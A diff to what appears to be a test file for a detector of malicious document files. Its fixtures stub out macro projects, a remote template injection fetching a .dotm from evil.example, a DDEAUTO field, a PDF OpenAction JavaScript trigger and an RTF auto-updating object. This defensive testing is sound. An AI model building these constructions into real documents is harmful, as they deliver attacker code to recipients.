@@ -12,7 +12,7 @@ CONTENT_TYPES = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:d
     [
         ("a.docm", archive(CONTENT_TYPES | {"word/vbaProject.bin": b"x"})),
         ("a.docx", archive(CONTENT_TYPES | {"word/vbaProject.bin": b"x"})),
-        ("a.docx", archive(CONTENT_TYPES | {"word/_rels/settings.xml.rels": b'<R Type="x/attachedTemplate" Target="https://evil.example/t.dotm"/>'})),
+        ("a.docx", archive(CONTENT_TYPES | {"word/_rels/settings.xml.rels": b'<Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'})),
         ("a.docx", archive({"[Content_Types].xml": b"x", "word/document.xml": b"<w:instrText>DDEAUTO c:\\x</w:instrText>"})),
         ("a.pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
         ("a.rtf", b"{\\rtf1 {\\object\\objupdate\\objdata 0105}}"),
